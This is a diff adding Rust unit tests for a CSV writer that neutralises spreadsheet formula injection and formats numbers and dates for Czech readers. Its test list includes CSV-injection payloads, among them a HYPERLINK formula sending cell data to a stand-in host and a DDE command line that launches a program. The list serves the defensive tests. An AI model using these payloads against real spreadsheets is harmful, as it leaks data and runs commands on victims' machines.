@@ -223,3 +223,190 @@ fn write_field(line: &mut Vec<u8>, text: &str, quoted: bool, delimiter: u8) {
     }
     line.push(b'"');
 }
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used)]
+    use super::*;
+    use chrono::{NaiveDate, TimeZone as _, Utc};
+
+    /// A file of one heading `value` and one row of `cells` for `audience`.
+    fn written(audience: Audience, cells: &[Cell]) -> String {
+        let mut writer = CsvWriter::new(audience);
+        writer.heading(cells.iter().map(|_| "value")).unwrap();
+        writer.row(cells).unwrap();
+        writer.into_string().unwrap()
+    }
+
+    /// The cells of the file's second line as a CSV reader sees them.
+    fn read_back(audience: Audience, text: &str) -> Vec<String> {
+        let text = text.trim_start_matches('\u{feff}');
+        let mut reader = csv::ReaderBuilder::new()
+            .delimiter(audience.delimiter())
+            .from_reader(text.as_bytes());
+        let row = reader.records().next().unwrap().unwrap();
+        row.iter().map(str::to_owned).collect()
+    }
+
+    const DANGEROUS: [&str; 11] = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+        "+1+cmd|' /C calc'!A0",
+        "-A1-A1",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "\u{FF1D}1+1",
+        "\u{FF0B}1+1",
+        "\u{FF0D}1+1",
+        "\u{FF20}SUM(A1)",
+    ];
+
+    #[test]
+    fn a_text_a_spreadsheet_would_run_gets_a_quote_before_it_and_is_quoted() {
+        for audience in [Audience::Machines, Audience::People] {
+            for text in DANGEROUS {
+                let file = written(audience, &[Cell::Text(text.into())]);
+                let line = file.split_once("\r\n").unwrap().1;
+                // The field opens with a double quote and the single quote: no cell starts
+                // with the formula's character.
+                assert!(line.starts_with("\"'"), "{audience:?} {text:?}: {line:?}");
+                assert_eq!(
+                    read_back(audience, &file),
+                    [format!("'{text}")],
+                    "{audience:?} {text:?}"
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn a_code_for_machines_and_its_words_for_people_are_neutralised_alike() {
+        let coded = Cell::Coded {
+            code: "-code".into(),
+            words: "=words".into(),
+        };
+        assert_eq!(
+            written(Audience::Machines, std::slice::from_ref(&coded)),
+            "value\r\n\"'-code\"\r\n"
+        );
+        assert_eq!(
+            written(Audience::People, &[coded]),
+            "\u{feff}value\r\n\"'=words\"\r\n"
+        );
+    }
+
+    #[test]
+    fn numbers_stay_numbers_even_when_negative() {
+        let cells = [
+            Cell::Money(-50),
+            Cell::Count(-3),
+            Cell::Decimal {
+                value: -1.5,
+                places: 2,
+            },
+            Cell::Percent(-2.25),
+        ];
+        // −50 h is −0,50 Kč for people; every figure is written bare, its minus first.
+        assert_eq!(
+            written(Audience::Machines, &cells),
+            "value,value,value,value\r\n-50,-3,-1.50,-2.2500\r\n"
+        );
+        assert_eq!(
+            written(Audience::People, &cells),
+            "\u{feff}value;value;value;value\r\n-0,50;-3;-1,50;-2,25\r\n"
+        );
+    }
+
+    #[test]
+    fn a_formula_character_after_the_first_is_harmless_and_left_alone() {
+        let cells = [
+            Cell::Text("R01-777".into()),
+            Cell::Text("a=b".into()),
+            Cell::Text(" =1+1".into()),
+            Cell::Text("'=1".into()),
+        ];
+        assert_eq!(
+            written(Audience::Machines, &cells),
+            "value,value,value,value\r\nR01-777,a=b, =1+1,'=1\r\n"
+        );
+    }
+
+    #[test]
+    fn harmless_cells_are_written_as_the_csv_crate_writes_them() {
+        let texts = [
+            "plain",
+            "",
+            "with, comma",
+            "with; semicolon",
+            "with \"quotes\"",
+            "two\r\nlines",
+            "one\nline feed",
+            "Ruleta; francouzská",
+            "'quoted'",
+        ];
+        for (audience, delimiter) in [(Audience::Machines, b','), (Audience::People, b';')] {
+            let mut expected = csv::WriterBuilder::new()
+                .delimiter(delimiter)
+                .terminator(csv::Terminator::CRLF)
+                .from_writer(Vec::new());
+            expected.write_record(texts.map(|_| "value")).unwrap();
+            expected.write_record(texts).unwrap();
+            let expected = String::from_utf8(expected.into_inner().unwrap()).unwrap();
+            let cells: Vec<Cell> = texts.iter().map(|t| Cell::Text((*t).into())).collect();
+            let file = written(audience, &cells);
+            assert_eq!(
+                file.trim_start_matches('\u{feff}'),
+                expected,
+                "{audience:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn days_and_times_are_written_for_their_reader() {
+        let day = NaiveDate::from_ymd_opt(2026, 11, 20).unwrap();
+        let time = Utc.with_ymd_and_hms(2026, 11, 20, 18, 30, 0).unwrap();
+        assert_eq!(
+            written(Audience::Machines, &[Cell::Day(day), Cell::Time(time)]),
+            "value,value\r\n2026-11-20,2026-11-20T18:30:00+00:00\r\n"
+        );
+        // 18:30 UTC is 19:30 in Prague in November (CET, UTC+1).
+        assert_eq!(
+            written(Audience::People, &[Cell::Day(day), Cell::Time(time)]),
+            "\u{feff}value;value\r\n20.11.2026;20.11.2026 19:30:00\r\n"
+        );
+    }
+
+    #[test]
+    fn a_row_longer_or_shorter_than_the_heading_is_an_error() {
+        let mut writer = CsvWriter::new(Audience::Machines);
+        writer.heading(["a", "b"]).unwrap();
+        assert!(matches!(
+            writer.row(&[Cell::Count(1)]),
+            Err(ReportError::Csv(m)) if m == "a row of 1 cells under 2 columns"
+        ));
+    }
+
+    #[test]
+    fn a_line_of_one_empty_field_is_written_as_two_quotes() {
+        assert_eq!(
+            written(Audience::Machines, &[Cell::Empty]),
+            "value\r\n\"\"\r\n"
+        );
+    }
+
+    #[test]
+    fn a_file_streamed_into_a_writer_is_the_file_written_in_memory() {
+        let cells = [Cell::Text("-A1-A1".into()), Cell::Money(-50)];
+        let mut streamed = CsvWriter::to_writer(Vec::new(), Audience::People).unwrap();
+        streamed.heading(["a", "b"]).unwrap();
+        streamed.row(&cells).unwrap();
+        let streamed = String::from_utf8(streamed.into_inner().unwrap()).unwrap();
+        assert_eq!(streamed, "\u{feff}a;b\r\n\"'-A1-A1\";-0,50\r\n");
+        let mut in_memory = CsvWriter::new(Audience::People);
+        in_memory.heading(["a", "b"]).unwrap();
+        in_memory.row(&cells).unwrap();
+        assert_eq!(in_memory.into_string().unwrap(), streamed);
+    }
+}
